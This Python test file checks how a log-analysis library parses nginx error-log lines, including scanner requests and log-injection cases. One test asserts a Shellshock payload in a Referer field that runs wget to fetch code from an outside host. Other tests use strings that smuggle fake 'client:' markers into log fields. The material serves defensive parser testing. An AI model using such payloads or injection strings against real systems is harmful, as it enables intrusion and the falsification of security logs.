"""nginx error-log lines, read from a real nginx 1.22 run (``fixtures/formats/nginx``)."""

from __future__ import annotations

from lwsyslog.events import ErrorEvent, Origin
from lwsyslog.formats import LineParser
from lwsyslog.formats.nginx_error import parse_nginx_error_line
from lwsyslog.normalize import EventView
from tests.unit.formats_fixtures import NGINX, clients, lines, parse_all

ORIGIN = Origin("error.log", 1)
ERROR_LOG = NGINX / "error.log"


def _events() -> list[ErrorEvent]:
    events = parse_all(LineParser("error"), ERROR_LOG)
    assert all(isinstance(e, ErrorEvent) for e in events), [e for e in events if e.log != "error"]
    return [e for e in events if isinstance(e, ErrorEvent)]


def _by_client(client: str) -> list[ErrorEvent]:
    return [e for e in _events() if e.client_ip == client]


def test_every_line_of_the_real_error_log_is_an_error_event() -> None:
    events = _events()
    assert len(events) == len(lines(ERROR_LOG))
    assert {e.level for e in events} >= {"notice", "info", "error"}
    assert all(e.time is not None and e.pid for e in events)


def test_each_client_of_the_run_is_named_by_its_own_lines() -> None:
    named = {e.client_ip for e in _events()} - {""}
    assert named <= set(clients(NGINX))
    assert {"127.0.0.23", "127.0.0.24", "127.0.0.26", "127.0.0.31"} <= named


def test_missing_file_line_splits_message_request_host_and_server() -> None:
    env = next(e for e in _by_client("127.0.0.23") if e.target == "/.env")
    assert env.message.startswith('open() "') and env.message.endswith(
        '/.env" failed (2: No such file or directory)'
    )
    assert (env.method, env.protocol, env.request_line) == ("GET", "HTTP/1.1", "GET /.env HTTP/1.1")
    assert (env.host, env.server, env.level) == ("127.0.0.1", "localhost", "error")
    assert env.extra["connection"].isdigit()
    assert ", client:" not in env.message


def test_path_rules_see_the_file_nginx_failed_to_open() -> None:
    """open() failed, "is not found" and "directory index of" name the file like AH00128."""
    paths = {EventView(e).raw("path").rsplit("/htdocs", 1)[-1] for e in _events()}
    assert {"/.env", "/.git/config", "/console/index.html", "/backup/"} <= paths


def test_referrer_and_upstream_are_their_own_fields() -> None:
    shellshock = _by_client("127.0.0.26")[0]
    assert shellshock.referer == "() { :; }; /bin/bash -c 'wget http://203.0.113.9/x'"
    upstream = _by_client("127.0.0.31")[0]
    assert upstream.extra["upstream"].startswith("http://127.0.0.1:")
    assert upstream.extra["upstream"].endswith("/api/orders?id=1")
    assert upstream.message.endswith("while connecting to upstream")


def test_fake_clients_planted_in_path_and_referrer_frame_no_one() -> None:
    """The path (decoded by nginx into the message) and the Referer both carry ', client: X,
    server: ': the line has three candidates, so it names no client at all."""
    planted = next(e for e in _events() if "6.6.6.6" in e.raw)
    assert planted.client_ip == ""
    assert planted.extra["ambiguous_client"] == "3"
    assert "7.7.7.7" in planted.message  # everything stays visible to message rules
    for event in _events():
        assert event.client_ip not in {"6.6.6.6", "7.7.7.7", "8.8.8.8"}


def test_user_name_with_a_client_marker_keeps_the_real_client() -> None:
    injected = next(e for e in _events() if 'user "x, client"' in e.message)
    assert injected.client_ip == "127.0.0.29"


def test_lines_without_a_request_have_no_client() -> None:
    startup = [e for e in _events() if e.level == "notice"]
    assert startup and all(e.client_ip == "" for e in startup)


def test_connection_level_line_names_the_listen_address_as_server() -> None:
    closed = next(e for e in _events() if e.message.startswith("client closed connection"))
    assert closed.client_ip == "127.0.0.1" and closed.server.startswith("127.0.0.1:")


def test_junk_request_bytes_stay_in_their_field() -> None:
    junk = next(e for e in _by_client("127.0.0.34") if "invalid method" in e.message)
    assert junk.request_line.startswith("\x16\x03\x01") and junk.method == ""


def test_an_injected_request_field_only_pushes_text_into_later_fields() -> None:
    line = (
        '2026/12/05 10:00:00 [error] 1#1: *9 open() "/srv/a" failed (2: No such file or '
        'directory), client: 192.0.2.5, server: www, request: "GET /a", host: "x HTTP/1.1", '
        'host: "www", referrer: "http://r/"'
    )
    event = parse_nginx_error_line(line, ORIGIN)
    assert event is not None and event.client_ip == "192.0.2.5"
    assert event.request_line == "GET /a"
    assert event.referer == "http://r/"
    assert "x HTTP/1.1" in event.host


def test_ipv6_and_unix_socket_clients() -> None:
    base = "2026/12/05 10:00:00 [error] 1#1: *9 access forbidden by rule, client: {}, server: www"
    v6 = parse_nginx_error_line(base.format("2001:db8::5"), ORIGIN)
    unix = parse_nginx_error_line(base.format("unix:"), ORIGIN)
    assert v6 is not None and v6.client_ip == "2001:db8::5"
    assert unix is not None and unix.client_ip == "" and unix.message == "access forbidden by rule"


def test_apache_lines_are_not_nginx_lines() -> None:
    apache = (
        "[Sat Jun 01 12:00:00.000000 2024] [core:error] [pid 1] [client 192.0.2.1:5] AH00128: x"
    )
    assert parse_nginx_error_line(apache, ORIGIN) is None
    assert parse_nginx_error_line("2026/12/05 10:00:00 [fatal] 1#1: x", ORIGIN) is None
